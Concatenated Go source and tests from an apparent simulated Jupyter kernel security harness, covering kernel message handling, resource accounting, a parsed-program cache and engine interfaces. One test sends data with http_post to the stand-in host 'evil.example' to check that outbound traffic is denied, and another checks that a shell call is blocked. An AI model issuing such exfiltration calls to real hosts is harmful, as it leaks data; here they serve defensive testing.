	res.Reply.Channel = jmsg.ChannelShell

	// Emit the exec audit event and a resource sample.
	k.cfg.Sink.Emit(trace.Event{
		Kind: trace.KindExec, KernelID: k.ID, User: user, Session: session,
		Code: code, Success: runErr == nil,
		CPUMillis: delta.CPUMillis, Bytes: delta.BytesWritten,
		Detail: res.EName,
	})
	k.cfg.Sink.Emit(trace.Event{
		Kind: trace.KindSysRes, KernelID: k.ID, User: user,
		CPUMillis: delta.CPUMillis,
		Fields: map[string]string{
			"bytes_read":    fmt.Sprint(delta.BytesRead),
			"bytes_written": fmt.Sprint(delta.BytesWritten),
			"net_bytes":     fmt.Sprint(delta.NetBytes),
			"net_calls":     fmt.Sprint(delta.NetCalls),
			"shell_calls":   fmt.Sprint(delta.ShellCalls),
		},
		Success: true,
	})

	k.state = StateIdle
	return res, nil
}

// subCounters returns the per-execution delta between two counter
// snapshots taken from the kernel's engine.
func subCounters(a, b minilang.Counters) minilang.Counters {
	return minilang.Counters{
		CPUMillis: a.CPUMillis - b.CPUMillis, BytesRead: a.BytesRead - b.BytesRead,
		BytesWritten: a.BytesWritten - b.BytesWritten, NetBytes: a.NetBytes - b.NetBytes,
		NetCalls: a.NetCalls - b.NetCalls, ShellCalls: a.ShellCalls - b.ShellCalls,
	}
}

// HandleMessage processes one protocol message addressed to the kernel
// and returns the full response message sequence (iopub broadcasts
// followed by the channel reply), as the server's WebSocket handler
// relays them.
func (k *Kernel) HandleMessage(msg *jmsg.Message) ([]*jmsg.Message, error) {
	switch msg.Header.MsgType {
	case jmsg.TypeExecuteRequest:
		var req jmsg.ExecuteRequest
		if err := msg.DecodeContent(&req); err != nil {
			return nil, fmt.Errorf("kernel: execute_request content: %w", err)
		}
		res, err := k.Execute(req.Code, msg)
		if err != nil {
			return nil, err
		}
		return append(res.IOPub, res.Reply), nil
	case jmsg.TypeKernelInfoReq:
		k.mu.Lock()
		defer k.mu.Unlock()
		var info jmsg.KernelInfoReply
		info.Status = "ok"
		info.ProtocolVersion = jmsg.ProtocolVersion
		info.Implementation = "minilang"
		info.ImplementationVersion = "1.0"
		info.Banner = "minilang simulated kernel (jupyterguard)"
		info.LanguageInfo.Name = "minilang"
		info.LanguageInfo.Version = "1.0"
		info.LanguageInfo.FileExtension = ".ml"
		reply, err := jmsg.Reply(msg, jmsg.TypeKernelInfoReply, k.nextMsgID(), k.cfg.Clock.Now(), info)
		if err != nil {
			return nil, err
		}
		reply.Channel = jmsg.ChannelShell
		return []*jmsg.Message{reply}, nil
	case jmsg.TypeCompleteRequest:
		var req struct {
			Code      string `json:"code"`
			CursorPos int    `json:"cursor_pos"`
		}
		if err := msg.DecodeContent(&req); err != nil {
			return nil, fmt.Errorf("kernel: complete_request content: %w", err)
		}
		k.mu.Lock()
		matches, start := k.complete(req.Code, req.CursorPos)
		reply, err := jmsg.Reply(msg, jmsg.TypeCompleteReply, k.nextMsgID(), k.cfg.Clock.Now(), map[string]any{
			"status": "ok", "matches": matches,
			"cursor_start": start, "cursor_end": req.CursorPos,
			"metadata": map[string]any{},
		})
		k.mu.Unlock()
		if err != nil {
			return nil, err
		}
		reply.Channel = jmsg.ChannelShell
		return []*jmsg.Message{reply}, nil
	case jmsg.TypeInspectRequest:
		var req struct {
			Code      string `json:"code"`
			CursorPos int    `json:"cursor_pos"`
		}
		if err := msg.DecodeContent(&req); err != nil {
			return nil, fmt.Errorf("kernel: inspect_request content: %w", err)
		}
		k.mu.Lock()
		name := wordAt(req.Code, req.CursorPos)
		found := false
		data := map[string]any{}
		if v, ok := k.eng.Vars()[name]; ok {
			found = true
			data["text/plain"] = fmt.Sprintf("%s = %s", name, minilang.Format(v))
		}
		reply, err := jmsg.Reply(msg, jmsg.TypeInspectReply, k.nextMsgID(), k.cfg.Clock.Now(), map[string]any{
			"status": "ok", "found": found, "data": data, "metadata": map[string]any{},
		})
		k.mu.Unlock()
		if err != nil {
			return nil, err
		}
		reply.Channel = jmsg.ChannelShell
		return []*jmsg.Message{reply}, nil
	case jmsg.TypeInterruptRequest:
		k.mu.Lock()
		defer k.mu.Unlock()
		k.state = StateIdle
		reply, err := jmsg.Reply(msg, jmsg.TypeInterruptReply, k.nextMsgID(), k.cfg.Clock.Now(), map[string]string{"status": "ok"})
		if err != nil {
			return nil, err
		}
		reply.Channel = jmsg.ChannelControl
		return []*jmsg.Message{reply}, nil
	case jmsg.TypeShutdownRequest:
		k.mu.Lock()
		k.state = StateDead
		k.mu.Unlock()
		reply, err := jmsg.Reply(msg, jmsg.TypeShutdownReply, k.nextMsgID(), k.cfg.Clock.Now(), map[string]any{"status": "ok", "restart": false})
		if err != nil {
			return nil, err
		}
		reply.Channel = jmsg.ChannelControl
		return []*jmsg.Message{reply}, nil
	default:
		return nil, fmt.Errorf("kernel: unhandled message type %q", msg.Header.MsgType)
	}
}

// complete returns completion matches for the identifier ending at
// cursorPos: kernel variables first, then builtins. Caller holds mu.
func (k *Kernel) complete(code string, cursorPos int) ([]string, int) {
	if cursorPos > len(code) {
		cursorPos = len(code)
	}
	start := cursorPos
	for start > 0 && isWordByte(code[start-1]) {
		start--
	}
	prefix := code[start:cursorPos]
	var matches []string
	for name := range k.eng.Vars() {
		if strings.HasPrefix(name, prefix) {
			matches = append(matches, name)
		}
	}
	for _, name := range minilang.BuiltinNames() {
		if strings.HasPrefix(name, prefix) {
			matches = append(matches, name)
		}
	}
	// Stable order: variables may come from a map.
	for i := 1; i < len(matches); i++ {
		for j := i; j > 0 && matches[j] < matches[j-1]; j-- {
			matches[j], matches[j-1] = matches[j-1], matches[j]
		}
	}
	return matches, start
}

// wordAt extracts the identifier under the cursor.
func wordAt(code string, pos int) string {
	if pos > len(code) {
		pos = len(code)
	}
	start := pos
	for start > 0 && isWordByte(code[start-1]) {
		start--
	}
	end := pos
	for end < len(code) && isWordByte(code[end]) {
		end++
	}
	return code[start:end]
}

func isWordByte(b byte) bool {
	return b == '_' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9'
}

// Manager starts, tracks, and stops kernels.
type Manager struct {
	mu      sync.Mutex
	cfg     Config
	kernels map[string]*Kernel
	progs   *progCache // shared across kernels; nil when disabled
	seq     int
}

// NewManager returns a kernel manager with the given configuration.
func NewManager(cfg Config) *Manager {
	cfg = cfg.withDefaults()
	m := &Manager{cfg: cfg, kernels: map[string]*Kernel{}}
	if cfg.ProgramCacheSize >= 0 {
		m.progs = newProgCache(cfg.ProgramCacheSize)
	}
	return m
}

// ProgCacheStats reports the manager-wide program cache counters:
// cumulative hits and misses, and the number of resident programs.
func (m *Manager) ProgCacheStats() (hits, misses uint64, resident int) {
	if m.progs == nil {
		return 0, 0, 0
	}
	hits, misses = m.progs.stats()
	return hits, misses, m.progs.len()
}

// Start launches a kernel for user and returns it.
func (m *Manager) Start(name, user string) *Kernel {
	m.mu.Lock()
	defer m.mu.Unlock()
	m.seq++
	id := fmt.Sprintf("kern-%04d", m.seq)
	if name == "" {
		name = "minilang"
	}
	host := minilang.Host(&fsHost{cfg: m.cfg, kernelID: id, user: user})
	if m.cfg.HostWrapper != nil {
		host = m.cfg.HostWrapper(id, user, host)
	}
	k := &Kernel{
		ID:       id,
		Name:     name,
		ConnInfo: jmsg.NewConnectionInfo("127.0.0.1", 50000+m.seq*10, m.cfg.ConnectionKey),
		cfg:      m.cfg,
		progs:    m.progs,
		eng:      minilang.NewEngine(m.cfg.Engine, host, m.cfg.Limits),
		signer:   jmsg.NewSigner([]byte(m.cfg.ConnectionKey)),
		state:    StateIdle,
		user:     user,
		started:  m.cfg.Clock.Now(),
	}
	m.kernels[id] = k
	return k
}

// Get returns a kernel by id.
func (m *Manager) Get(id string) (*Kernel, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	k, ok := m.kernels[id]
	if !ok {
		return nil, fmt.Errorf("%w: %s", ErrNoKernel, id)
	}
	return k, nil
}

// Restart replaces the kernel's interpreter with a fresh namespace
// (the Jupyter "Restart Kernel" semantic), preserving its identity,
// connection info, and cumulative usage accounting.
func (m *Manager) Restart(id string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	k, ok := m.kernels[id]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNoKernel, id)
	}
	host := minilang.Host(&fsHost{cfg: m.cfg, kernelID: k.ID, user: k.user})
	if m.cfg.HostWrapper != nil {
		host = m.cfg.HostWrapper(k.ID, k.user, host)
	}
	k.mu.Lock()
	k.eng = minilang.NewEngine(m.cfg.Engine, host, m.cfg.Limits)
	k.state = StateIdle
	k.execCount = 0
	k.mu.Unlock()
	return nil
}

// Shutdown stops and removes a kernel.
func (m *Manager) Shutdown(id string) error {
	m.mu.Lock()
	defer m.mu.Unlock()
	k, ok := m.kernels[id]
	if !ok {
		return fmt.Errorf("%w: %s", ErrNoKernel, id)
	}
	k.mu.Lock()
	k.state = StateDead
	k.mu.Unlock()
	delete(m.kernels, id)
	return nil
}

// List returns all running kernels sorted by id.
func (m *Manager) List() []*Kernel {
	m.mu.Lock()
	defer m.mu.Unlock()
	out := make([]*Kernel, 0, len(m.kernels))
	for _, k := range m.kernels {
		out = append(out, k)
	}
	// Sort by ID for deterministic listings.
	for i := 1; i < len(out); i++ {
		for j := i; j > 0 && out[j].ID < out[j-1].ID; j-- {
			out[j], out[j-1] = out[j-1], out[j]
		}
	}
	return out
}

// Count returns the number of running kernels.
func (m *Manager) Count() int {
	m.mu.Lock()
	defer m.mu.Unlock()
	return len(m.kernels)
}
