package kernel

import (
	"errors"
	"strings"
	"testing"
	"time"

	"repro/internal/jmsg"
	"repro/internal/kernel/minilang"
	"repro/internal/trace"
	"repro/internal/vfs"
)

var t0 = time.Date(2026, 6, 1, 9, 0, 0, 0, time.UTC)

func newManager(t *testing.T) (*Manager, *vfs.FS, *trace.Ring, *trace.FakeClock) {
	t.Helper()
	clock := trace.NewFakeClock(t0)
	ring := trace.NewRing(10000)
	bus := trace.NewBus(clock)
	bus.Subscribe(ring)
	fs := vfs.New(vfs.WithClock(clock), vfs.WithSink(bus))
	m := NewManager(Config{
		FS: fs, Clock: clock, Sink: bus,
		ConnectionKey: "test-connection-key-0123",
	})
	return m, fs, ring, clock
}

func TestStartAndGet(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("minilang", "alice")
	if k.ID == "" || k.State() != StateIdle {
		t.Fatalf("kernel = %+v", k)
	}
	got, err := m.Get(k.ID)
	if err != nil || got != k {
		t.Fatalf("get: %v", err)
	}
	if _, err := m.Get("kern-9999"); !errors.Is(err, ErrNoKernel) {
		t.Fatalf("err = %v", err)
	}
	if m.Count() != 1 || len(m.List()) != 1 {
		t.Fatal("count/list wrong")
	}
}

func TestExecuteMessageFlow(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	res, err := k.Execute(`print("hello")`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "ok" || res.Stdout != "hello\n" || res.ExecutionCount != 1 {
		t.Fatalf("res = %+v", res)
	}
	var types []string
	for _, msg := range res.IOPub {
		types = append(types, msg.Header.MsgType)
	}
	want := "status,execute_input,stream,status"
	if strings.Join(types, ",") != want {
		t.Fatalf("iopub = %v", types)
	}
	if res.Reply.Header.MsgType != jmsg.TypeExecuteReply || res.Reply.Channel != jmsg.ChannelShell {
		t.Fatalf("reply = %+v", res.Reply.Header)
	}
	// Status transitions busy -> idle.
	var st jmsg.StatusContent
	_ = res.IOPub[0].DecodeContent(&st)
	if st.ExecutionState != StateBusy {
		t.Fatalf("first status = %s", st.ExecutionState)
	}
	_ = res.IOPub[len(res.IOPub)-1].DecodeContent(&st)
	if st.ExecutionState != StateIdle {
		t.Fatalf("last status = %s", st.ExecutionState)
	}
}

func TestExecuteErrorFlow(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	res, err := k.Execute(`boom()`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "error" || res.EName != "NameError" {
		t.Fatalf("res = %+v", res)
	}
	found := false
	for _, msg := range res.IOPub {
		if msg.Header.MsgType == jmsg.TypeError {
			found = true
		}
	}
	if !found {
		t.Fatal("no error message on iopub")
	}
}

func TestNamespacePersistsAcrossCells(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`x = 20`, nil); err != nil {
		t.Fatal(err)
	}
	res, err := k.Execute(`print(x + 22)`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Stdout != "42\n" {
		t.Fatalf("stdout = %q", res.Stdout)
	}
	if k.ExecutionCount() != 2 {
		t.Fatalf("exec count = %d", k.ExecutionCount())
	}
}

func TestKernelFSIntegration(t *testing.T) {
	m, fs, _, _ := newManager(t)
	_ = fs.Write("data/in.txt", "setup", []byte("abc"))
	k := m.Start("", "alice")
	res, err := k.Execute(`write_file("data/out.txt", read_file("data/in.txt") + "def")`, nil)
	if err != nil || res.Status != "ok" {
		t.Fatalf("res = %+v err = %v", res, err)
	}
	got, err := fs.Read("data/out.txt", "check")
	if err != nil || string(got) != "abcdef" {
		t.Fatalf("fs content = %q %v", got, err)
	}
}

func TestResourceAccounting(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`spin(3000)
write_file("f", "0123456789")`, nil); err != nil {
		t.Fatal(err)
	}
	u := k.Usage()
	if u.CPUMillis != 3000 || u.BytesWritten != 10 || u.Executions != 1 {
		t.Fatalf("usage = %+v", u)
	}
	res := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindSysRes })
	if len(res) != 1 || res[0].CPUMillis != 3000 {
		t.Fatalf("sys_res = %+v", res)
	}
}

func TestSpinAdvancesFakeClock(t *testing.T) {
	m, _, _, clock := newManager(t)
	k := m.Start("", "alice")
	before := clock.Now()
	if _, err := k.Execute(`spin(2500)`, nil); err != nil {
		t.Fatal(err)
	}
	if got := clock.Now().Sub(before); got != 2500*time.Millisecond {
		t.Fatalf("clock advanced %v", got)
	}
}

func TestShellPolicy(t *testing.T) {
	m, _, ring, _ := newManager(t) // ShellEnabled=false
	k := m.Start("", "alice")
	res, _ := k.Execute(`shell("whoami")`, nil)
	if res.Status != "error" {
		t.Fatal("shell allowed under deny policy")
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindTermCmd })
	if len(evs) != 1 || evs[0].Success {
		t.Fatalf("term events = %+v", evs)
	}
}

func TestShellEnabled(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	m := NewManager(Config{Clock: clock, ShellEnabled: true})
	k := m.Start("", "alice")
	res, err := k.Execute(`print(shell("whoami"))`, nil)
	if err != nil || res.Status != "ok" {
		t.Fatalf("res = %+v err=%v", res, err)
	}
	if !strings.Contains(res.Stdout, "jovyan") {
		t.Fatalf("stdout = %q", res.Stdout)
	}
}

func TestEgressDeniedByDefault(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "alice")
	res, _ := k.Execute(`http_post("http://evil.example/x", "data")`, nil)
	if res.Status != "error" {
		t.Fatal("egress allowed with default gateway")
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindNetOp })
	if len(evs) != 1 || evs[0].Success {
		t.Fatalf("net events = %+v", evs)
	}
}

func TestHandleExecuteRequestMessage(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, err := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess", "alice", t0,
		jmsg.ExecuteRequest{Code: `print(1+1)`})
	if err != nil {
		t.Fatal(err)
	}
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	last := replies[len(replies)-1]
	if last.Header.MsgType != jmsg.TypeExecuteReply {
		t.Fatalf("last = %s", last.Header.MsgType)
	}
	if last.ParentHeader.MsgID != "m1" {
		t.Fatal("reply not threaded to parent")
	}
	for _, r := range replies[:len(replies)-1] {
		if ch, _ := jmsg.ChannelFor(r.Header.MsgType); r.Channel != ch {
			t.Fatalf("msg %s on channel %s", r.Header.MsgType, r.Channel)
		}
	}
}

func TestHandleKernelInfo(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeKernelInfoReq, "m1", "sess", "alice", t0, map[string]any{})
	replies, err := k.HandleMessage(req)
	if err != nil || len(replies) != 1 {
		t.Fatalf("replies = %v err = %v", replies, err)
	}
	var info jmsg.KernelInfoReply
	if err := replies[0].DecodeContent(&info); err != nil {
		t.Fatal(err)
	}
	if info.Implementation != "minilang" || info.ProtocolVersion != jmsg.ProtocolVersion {
		t.Fatalf("info = %+v", info)
	}
}

func TestShutdownLifecycle(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeShutdownRequest, "m1", "sess", "alice", t0, map[string]any{})
	if _, err := k.HandleMessage(req); err != nil {
		t.Fatal(err)
	}
	if k.State() != StateDead {
		t.Fatalf("state = %s", k.State())
	}
	if _, err := k.Execute(`print(1)`, nil); !errors.Is(err, ErrKernelDead) {
		t.Fatalf("err = %v", err)
	}
	if err := m.Shutdown(k.ID); err != nil {
		t.Fatal(err)
	}
	if m.Count() != 0 {
		t.Fatal("kernel not removed")
	}
}

func TestUnhandledMessageType(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New("martian_request", "m1", "sess", "alice", t0, map[string]any{})
	if _, err := k.HandleMessage(req); err == nil {
		t.Fatal("martian message handled")
	}
}

func TestExecHookOrdering(t *testing.T) {
	clock := trace.NewFakeClock(t0)
	var calls []string
	fs := vfs.New(vfs.WithClock(clock), vfs.WithSink(trace.SinkFunc(func(e trace.Event) {
		if e.Kind == trace.KindFileOp {
			calls = append(calls, "op:"+e.Op)
		}
	})))
	m := NewManager(Config{
		FS: fs, Clock: clock,
		ExecHook: func(kernelID, user, code string) { calls = append(calls, "exec") },
	})
	k := m.Start("", "alice")
	if _, err := k.Execute(`write_file("x", "1")`, nil); err != nil {
		t.Fatal(err)
	}
	if len(calls) < 2 || calls[0] != "exec" {
		t.Fatalf("ordering = %v (exec hook must precede ops)", calls)
	}
}

func TestConnectionInfoPorts(t *testing.T) {
	m, _, _, _ := newManager(t)
	k1 := m.Start("", "a")
	k2 := m.Start("", "b")
	if k1.ConnInfo.ShellPort == k2.ConnInfo.ShellPort {
		t.Fatal("kernels share ports")
	}
	if k1.ConnInfo.Key == "" {
		t.Fatal("connection key empty despite config")
	}
	if k1.Signer().Keyless() {
		t.Fatal("signer keyless")
	}
}

func TestRestartClearsNamespace(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`secret = "s3cr3t"`, nil); err != nil {
		t.Fatal(err)
	}
	if err := m.Restart(k.ID); err != nil {
		t.Fatal(err)
	}
	res, err := k.Execute(`print(secret)`, nil)
	if err != nil {
		t.Fatal(err)
	}
	if res.Status != "error" || res.EName != "NameError" {
		t.Fatalf("namespace survived restart: %+v", res)
	}
	if k.ExecutionCount() != 1 {
		t.Fatalf("execution count = %d after restart", k.ExecutionCount())
	}
	if err := m.Restart("kern-9999"); !errors.Is(err, ErrNoKernel) {
		t.Fatalf("restart missing kernel: %v", err)
	}
}

func TestCompleteRequest(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`reactor_temp = 451`, nil); err != nil {
		t.Fatal(err)
	}
	req, _ := jmsg.New(jmsg.TypeCompleteRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "print(rea", "cursor_pos": 9})
	replies, err := k.HandleMessage(req)
	if err != nil || len(replies) != 1 {
		t.Fatalf("replies = %v err = %v", replies, err)
	}
	var content struct {
		Matches     []string `json:"matches"`
		CursorStart int      `json:"cursor_start"`
	}
	if err := replies[0].DecodeContent(&content); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, mt := range content.Matches {
		if mt == "reactor_temp" {
			found = true
		}
		if mt == "read_file" {
			// builtin prefix match also expected
		}
	}
	if !found || content.CursorStart != 6 {
		t.Fatalf("content = %+v", content)
	}
}

func TestCompleteIncludesBuiltins(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	req, _ := jmsg.New(jmsg.TypeCompleteRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "http", "cursor_pos": 4})
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	var content struct {
		Matches []string `json:"matches"`
	}
	_ = replies[0].DecodeContent(&content)
	want := map[string]bool{"http_get": false, "http_post": false}
	for _, mt := range content.Matches {
		if _, ok := want[mt]; ok {
			want[mt] = true
		}
	}
	for name, seen := range want {
		if !seen {
			t.Errorf("completion missing builtin %s: %v", name, content.Matches)
		}
	}
}

func TestInspectRequest(t *testing.T) {
	m, _, _, _ := newManager(t)
	k := m.Start("", "alice")
	if _, err := k.Execute(`answer = 42`, nil); err != nil {
		t.Fatal(err)
	}
	req, _ := jmsg.New(jmsg.TypeInspectRequest, "m1", "sess", "alice", t0,
		map[string]any{"code": "print(answer)", "cursor_pos": 9})
	replies, err := k.HandleMessage(req)
	if err != nil {
		t.Fatal(err)
	}
	var content struct {
		Found bool              `json:"found"`
		Data  map[string]string `json:"data"`
	}
	if err := replies[0].DecodeContent(&content); err != nil {
		t.Fatal(err)
	}
	if !content.Found || !strings.Contains(content.Data["text/plain"], "42") {
		t.Fatalf("content = %+v", content)
	}
	// Unknown name: found=false, no error.
	req2, _ := jmsg.New(jmsg.TypeInspectRequest, "m2", "sess", "alice", t0,
		map[string]any{"code": "mystery", "cursor_pos": 3})
	replies, _ = k.HandleMessage(req2)
	_ = replies[0].DecodeContent(&content)
	if content.Found {
		t.Fatal("unknown name found")
	}
}

func TestExecEventEmitted(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "carol")
	code := `print("tracked")`
	if _, err := k.Execute(code, nil); err != nil {
		t.Fatal(err)
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindExec })
	if len(evs) != 1 || evs[0].Code != code || evs[0].User != "carol" || evs[0].KernelID != k.ID {
		t.Fatalf("exec events = %+v", evs)
	}
}

func TestParentUsernamePropagates(t *testing.T) {
	m, _, ring, _ := newManager(t)
	k := m.Start("", "owner")
	req, _ := jmsg.New(jmsg.TypeExecuteRequest, "m1", "sess-9", "intruder", t0,
		jmsg.ExecuteRequest{Code: `print(1)`})
	if _, err := k.HandleMessage(req); err != nil {
		t.Fatal(err)
	}
	evs := ring.Filter(func(e trace.Event) bool { return e.Kind == trace.KindExec })
	if len(evs) != 1 || evs[0].User != "intruder" || evs[0].Session != "sess-9" {
		t.Fatalf("attribution = %+v", evs)
	}
}

// newEngineManager is newManager with an explicit engine selection.
func newEngineManager(t *testing.T, engine string) *Manager {
	t.Helper()
	clock := trace.NewFakeClock(t0)
	bus := trace.NewBus(clock)
	fs := vfs.New(vfs.WithClock(clock), vfs.WithSink(bus))
	_ = fs.Write("data/in.txt", "setup", []byte("line one\nline two"))
	return NewManager(Config{
		FS: fs, Clock: clock, Sink: bus, Engine: engine,
		ShellEnabled: true,
		Limits:       minilang.Limits{MaxSteps: 5000},
	})
}

// TestEngineEquivalence pins that a kernel backed by the bytecode VM
// and one backed by the tree interpreter produce identical execution
// replies — status, stdout, error name/value, counts, and usage —
// across ok cells, runtime errors, syntax errors, host calls, and a
// step-limit blowout.
func TestEngineEquivalence(t *testing.T) {
	cells := []string{
		"x = 2\ny = x * 21\nprint(y)",
		"print(x + y)", // namespace persists
		`data = read_file("data/in.txt")` + "\nprint(len(data))",
		`print(shell("whoami"))`,
		"print(nope)",         // NameError
		"if without_end",      // SyntaxError
		"print(1/0)",          // ZeroDivisionError
		"while 1\nz = 1\nend", // ResourceError: step limit
		"print(x, y)",         // still alive after errors
	}
	tm := newEngineManager(t, minilang.EngineTree)
	vm := newEngineManager(t, minilang.EngineVM)
	tk := tm.Start("", "alice")
	vk := vm.Start("", "alice")
	for i, code := range cells {
		tr, terr := tk.Execute(code, nil)
		vr, verr := vk.Execute(code, nil)
		if (terr == nil) != (verr == nil) {
			t.Fatalf("cell %d: err tree=%v vm=%v", i, terr, verr)
		}
		if terr != nil {
			continue
		}
		if tr.Status != vr.Status || tr.Stdout != vr.Stdout ||
			tr.EName != vr.EName || tr.EValue != vr.EValue ||
			tr.ExecutionCount != vr.ExecutionCount {
			t.Errorf("cell %d diverges:\ntree: %+v\nvm:   %+v", i, tr, vr)
		}
	}
	if tu, vu := tk.Usage(), vk.Usage(); tu != vu {
		t.Errorf("usage diverges:\ntree: %+v\nvm:   %+v", tu, vu)
	}
}

// TestEngineConfigSelection pins the default and the tree fallback.
func TestEngineConfigSelection(t *testing.T) {
	if got := (Config{}).withDefaults().Engine; got != minilang.EngineVM {
		t.Fatalf("default engine = %q, want %q", got, minilang.EngineVM)
	}
	if got := (Config{Engine: minilang.EngineTree}).withDefaults().Engine; got != minilang.EngineTree {
		t.Fatalf("tree engine overridden to %q", got)
	}
}
