package kernel

// Compiled-program cache: fleet scenarios execute the same cell
// sources over and over (the census replays one probe notebook per
// server; attack simulations re-run fixed payloads), so the manager
// keeps a bounded LRU of parsed minilang programs keyed by the
// SHA-256 of the source. A hit skips the parse front end entirely,
// and — because minilang.Engine.RunProgram never mutates the program
// and the VM memoizes compiled chunks per *Program pointer — the VM
// also skips bytecode compilation for every execution of a cached
// program after a kernel's first. Correctness rides on the existing
// FuzzVMMatchesInterp oracle: Run is exactly Parse+RunProgram in both
// engines, so routing Execute through the cache is observationally
// identical.

import (
	"container/list"
	"crypto/sha256"
	"sync"

	"repro/internal/kernel/minilang"
)

// defaultProgCacheCap bounds the manager-wide program cache. Programs
// are small (an AST per cell source), so the bound is about keeping
// pathological fleets — thousands of distinct one-shot cells — from
// holding every AST ever parsed.
const defaultProgCacheCap = 256

type progCacheEntry struct {
	key  [sha256.Size]byte
	prog *minilang.Program
}

// progCache is a mutex-guarded LRU: hot sources stay parsed, one-shot
// sources age out. Shared by every kernel of a manager.
type progCache struct {
	mu      sync.Mutex
	cap     int
	entries map[[sha256.Size]byte]*list.Element
	lru     *list.List // front = most recently used

	hits, misses uint64
}

func newProgCache(capacity int) *progCache {
	if capacity <= 0 {
		capacity = defaultProgCacheCap
	}
	return &progCache{
		cap:     capacity,
		entries: make(map[[sha256.Size]byte]*list.Element, capacity),
		lru:     list.New(),
	}
}

// program returns the parsed form of src, parsing at most once per
// distinct source while it stays resident. The returned program is
// shared — callers must treat it as immutable, which Engine.RunProgram
// guarantees. hit reports whether the parse was skipped. A source
// that fails to parse is not cached: the syntax error is the caller's
// to surface, and retrying a corrected cell must not see a stale
// failure.
func (c *progCache) program(src string) (prog *minilang.Program, hit bool, err error) {
	key := sha256.Sum256([]byte(src))
	c.mu.Lock()
	if el, ok := c.entries[key]; ok {
		c.lru.MoveToFront(el)
		c.hits++
		prog = el.Value.(*progCacheEntry).prog
		c.mu.Unlock()
		return prog, true, nil
	}
	c.misses++
	c.mu.Unlock()

	// Parse outside the lock: a slow parse of one giant cell must not
	// stall every other kernel's hit path. A racing parse of the same
	// source wastes one parse and the second insert wins harmlessly.
	prog, err = minilang.Parse(src)
	if err != nil {
		return nil, false, err
	}
	c.mu.Lock()
	if el, ok := c.entries[key]; ok {
		// Lost the race; share the winner's program so the VM chunk
		// cache keys on one pointer.
		c.lru.MoveToFront(el)
		prog = el.Value.(*progCacheEntry).prog
	} else {
		c.entries[key] = c.lru.PushFront(&progCacheEntry{key: key, prog: prog})
		if c.lru.Len() > c.cap {
			oldest := c.lru.Back()
			c.lru.Remove(oldest)
			delete(c.entries, oldest.Value.(*progCacheEntry).key)
		}
	}
	c.mu.Unlock()
	return prog, false, nil
}

// stats returns cumulative hit/miss counters.
func (c *progCache) stats() (hits, misses uint64) {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.hits, c.misses
}

// len returns the number of resident programs.
func (c *progCache) len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.lru.Len()
}
