package minilang

// Engine is the execution contract shared by the tree-walking
// interpreter and the bytecode VM. The kernel holds an Engine, not a
// concrete type, so engine selection is a config knob. Both engines
// preserve the same observable behavior: Host callbacks in the same
// order, identical stdout (Format output included), identical
// RuntimeError/SyntaxError values, equivalent step accounting (the
// same program hits the same limit error), and a variable namespace
// that persists across Run calls.
type Engine interface {
	// Run parses and executes src. The step budget applies per call.
	Run(src string) error
	// RunProgram executes an already parsed program. It does not
	// mutate prog, so a Program may be shared between engines.
	RunProgram(prog *Program) error
	// Vars exposes the variable namespace. The returned map is for
	// reading; mutations are not guaranteed to be visible to the
	// engine.
	Vars() map[string]Value
	// TakeStdout returns and clears accumulated stdout.
	TakeStdout() string
	// Counters returns the cumulative resource-usage counters.
	Counters() Counters
}

// Counters is a snapshot of an engine's cumulative resource-usage
// accounting, read by the kernel before and after each execution to
// emit per-cell deltas.
type Counters struct {
	CPUMillis    int64
	BytesRead    int64
	BytesWritten int64
	NetBytes     int64
	NetCalls     int
	ShellCalls   int
}

// Counters snapshots the usage counters. Promoted onto both engines
// via rt embedding.
func (r *rt) Counters() Counters {
	return Counters{
		CPUMillis:    r.CPUMillis,
		BytesRead:    r.BytesRead,
		BytesWritten: r.BytesWritten,
		NetBytes:     r.NetBytes,
		NetCalls:     r.NetCalls,
		ShellCalls:   r.ShellCalls,
	}
}

// Engine names accepted by NewEngine and the kernel's Config.Engine.
const (
	EngineTree = "tree" // reference tree-walking interpreter
	EngineVM   = "vm"   // bytecode VM (default)
)

// ValidEngine reports whether name selects a known engine. The empty
// string is valid and means the default (vm).
func ValidEngine(name string) bool {
	switch name {
	case "", EngineTree, EngineVM:
		return true
